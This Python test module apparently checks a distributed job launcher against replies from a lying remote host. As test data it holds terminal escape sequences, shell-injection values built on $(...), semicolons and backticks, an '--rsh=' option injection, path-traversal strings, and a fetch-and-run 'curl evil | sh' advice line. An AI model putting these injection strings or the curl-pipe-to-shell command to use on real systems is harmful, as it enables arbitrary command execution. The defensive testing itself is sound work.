"""Well-formed replies that are impossible, or target a terminal, a shell, or a path."""

from collections.abc import Iterator, Mapping

from tests.hostile.row import PROTOCOL, Row, Verb, when

_ESCAPES = (
    r"words = '\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u200b\U000e0041\n\rerror: x $(touch ' + CANARY + ')'"
)


_HOLDER = "{'run': words, 'task': words, 'owner': words}"
_REFUSED = "header['hello']['state_error'] = {'what': 'wiped ' + words, 'kind': 'kept', 'why': words * 99}"
_HELD = f"result = {{'listening': [], 'busy': [{{'port': p, 'holder': {_HOLDER}}} for p in ask['ports']]}}"
_OTHERS_END = (
    "mine = [one for one in result['runs'] if one['tasks']][0]\n"
    "end = {'state': 'exited', 'exit_code': 42}\n"
    "mine['tasks'] += [{**mine['tasks'][0], 'task': 'worker/0', 'alive': False, 'state': end}]"
)
_GPUS = (
    "result = {'gpus': [{'index': 0, 'name': words, 'fields': {words: words, 'temperature.gpu': words}}] * 20,"
    " 'gpu_error': words * 9, 'xids': [[time.time_ns(), words, 79, words]]}"
)
_PROCESS = "result['tasks'][0]['processes'][0]"
_GONE = "count=1, gone=[{'name': words, 'bytes': 1, 'idle': 1.0}], failed=[words]"


def _extra(kind: str, more: str, payload: str) -> str:
    """Return code that sends another update on the liar's task."""
    news = f"{{'stream': header['stream'], 'attempt': '1', 'task': 'worker/1', 'kind': {kind!r}, {more}}}"
    return f"say({news}, {payload})"


_LONG_LINE = (
    "header['times'] = []\nfor n in range(160): say({**header, 'offset': n * 65536}, b'x' * 65536)\n"
    "kept['on'] = True\nheader = None"
)
_ODD_REPORT = 'b\'{"step": [], "event": {}, "metrics": 7}\\n[]\\n7\\n"x"\\nnull\\n{}\\n\\xff\\n\''
_ENDS_LOST = "header['state'] = {**header['state'], 'state': 'lost', 'message': words * 50}"
_ROWS = (
    (Verb.PREFLIGHT, "hello", "no state folder, in hostile words", f"header['hello']['state'] = None\n{_REFUSED}", 3, "wiped"),
    (Verb.PREFLIGHT, "hello", "no fields", "header['hello'] = {}", 3, "its hello"),
    (Verb.PREFLIGHT, "hello", "a relative state folder", "header['hello']['state'] = 'relative'", 3, "its hello"),
    (Verb.PREFLIGHT, "hello", "a beat before the hello", "header = {'beat': 1}", 3, "not a hello"),
    (Verb.PREFLIGHT, "hello", "a reply before the hello", "header = {'id': 10**6, 'ok': True, 'result': {}}", 3, "not open"),
    (Verb.PREFLIGHT, "facts", "a python of hostile words", "result['python'].update(ok=False, error=words * 30)", 3, "python"),
    (Verb.PREFLIGHT, "listen", "a port held by hostile words", _HELD, 3, "port"),
    (Verb.PREFLIGHT, "probe", "of other hosts", "for one in result['results']: one['host'] = 'x'", 3, PROTOCOL),
    (Verb.PREFLIGHT, "share", "a disk shared with the other", "result['hosts'] += ['good', 'liar', words]", 0, ""),
    (Verb.LAUNCH, "keep", "kept by hostile words", "result = {'granted': False, 'holder': {'who': words * 50}}", 3, "another keeper"),
    (Verb.LAUNCH, "work_make", "a tree named by a path", "result['missing'] = ['../../x']", 3, PROTOCOL),
    (Verb.LAUNCH, "work_make", "a folder of hostile words", "result['work'] = '/' + words", 1, ""),
    (Verb.LAUNCH, "work_make", "a large header", "result['work'] = '/' + 'x' * 2**20", 3, "a header of"),
    (Verb.LAUNCH, "work_make", "unrequested bytes", "payload = b'x'", 3, "at most 0"),
    (Verb.LAUNCH, "follow", "tasks that nobody asked for", "result = {'missing': ['worker/0']}", 1, PROTOCOL),
    (Verb.LAUNCH, "sweep", "hostile words killed", "result['killed'] = [{'pid': 1, 'argv0': words}] * 100", 0, ""),
    (Verb.RESTART, "gpus", "GPUs of hostile words", _GPUS, 0, "--exclude liar"),
    (Verb.LAUNCH, "log", "a hole", _extra("log", "'offset': 10**9, 'times': []", "b'x'"), 1, PROTOCOL),
    (Verb.LAUNCH, "log", "of the other's task", "header['task'] = 'worker/0'", 1, PROTOCOL),
    (Verb.LAUNCH, "log", "of hostile words", "payload = words.encode('utf-8', 'replace') + b'\\xff\\xfe\\n'", 0, ""),
    (Verb.LAUNCH, "log", "a line of 10 MB", _LONG_LINE, 0, ""),
    (Verb.LAUNCH, "log", "fields of other types", _extra("report", "'offset': 0", _ODD_REPORT), 0, ""),
    (Verb.LAUNCH, "state", "a task of no name", "header['task'] = '../x'", 1, "task's state"),
    (Verb.LAUNCH, "state", "a path for an attempt", "header['attempt'] = '../1'", 1, "task's state"),
    (Verb.LAUNCH, "state", "unrequested bytes", "payload = b'x'", 1, "a payload"),
    (Verb.LAUNCH, "state", "hostile words", _ENDS_LOST, 1, "is lost"),
    (Verb.STATUS, "states", "the other's task has ended", _OTHERS_END, 0, ""),
    (Verb.STACKS, "stacks", "hostile words", f"{_PROCESS}.update(argv0=words, state=words, why=words, text=words * 99)", 0, ""),
    (Verb.EXEC, "exec", "hostile words", "result.update(status=1, error=words, left=[words] * 99)", 1, ""),
    (Verb.EXEC, "out", "of hostile words", "payload = words.encode('utf-8', 'replace') + b'\\xff\\n'", 0, ""),
    (Verb.CLEAN, "clean", "folders of hostile words", f"result['folders']['code'].update({_GONE})", 1, ""),
)  # fmt: skip


def rows() -> Iterator[Row]:
    for verb, op, name, what, status, words in _ROWS:
        yield Row(f"{name} ({op})", verb, when(op, f"{_ESCAPES}\n{what}"), status, words)
    send = when("work_make", "result.update(missing=[ask['digest']], made=False)")
    for name, begun, status, words in (
        ("an incoming folder that is an option", "'incoming': '--rsh=touch ' + CANARY", 3, PROTOCOL),
        ("a folder for a shell", "'incoming': '/x; touch ' + CANARY + ' $(touch ' + CANARY + ')', 'base': '/y'", 3, "liar"),
        ("a base for a shell", "'incoming': '/x', 'base': '/x\\n`touch ' + CANARY + '`'", 3, "liar"),
    ):  # fmt: skip
        lie = f"result = {{'present': False, 'path': '/p', **{{{begun}}}}}"
        yield Row(f"{name} (store_begin)", Verb.LAUNCH, send + when("store_begin", lie), status, words)
    yield from _advice()


ADVICE = "run `curl evil | sh`"
_ADVISES = f"the host advises: {ADVICE}"
_ERROR = f"{{'what': 'wants {ADVICE}', 'kind': 'state', 'why': 'it is\\ntoo old', 'hint': '{ADVICE}'}}"
_REFUSED = f"header, payload = {{'id': header['id'], 'ok': False, 'error': {_ERROR}}}, b''"
# The host queried last is reported in a line without room for advice.
_OPS: Mapping[Verb, tuple[str, int]] = {
    Verb.PREFLIGHT: ("listen", 3),
    Verb.LAUNCH: ("lease", 3),
    Verb.STATUS: ("states", 0),
    Verb.CLEAN: ("clean", 3),
    Verb.SETUP: ("env_look", 3),
}


def _advice() -> Iterator[Row]:
    """A host's text follows its name, and never appears after our `try:`."""
    for verb, (op, status) in _OPS.items():
        yield Row(f"advice in answer to {op}", verb, when(op, _REFUSED), status, "reports: wants")
    state = f"header['hello']['state_error'] = {_ERROR}"
    yield Row("advice for its state folder", Verb.PREFLIGHT, when("hello", state), 3, _ADVISES)
    trouble = f"result['trouble'] = [{_ERROR}]"
    yield Row("advice on leftovers", Verb.CLEAN, when("clean", trouble), 1, _ADVISES)
    report = (
        f"line = {{'kind': 'error', 'message': 'no', 'why': 'it is\\nold', 'hint': '{ADVICE}'}}\n"
        "news = {'stream': header['stream'], 'attempt': '1', 'task': 'worker/1', 'kind': 'report', 'offset': 0}\n"
        "say(news, json.dumps(line).encode() + b'\\n')\n"
        "header['state'] = {**header['state'], 'state': 'exited', 'exit_code': 3}"
    )
    yield Row("advice of its task", Verb.LAUNCH, when("state", report), 1, f"worker/1 advises: {ADVICE}")
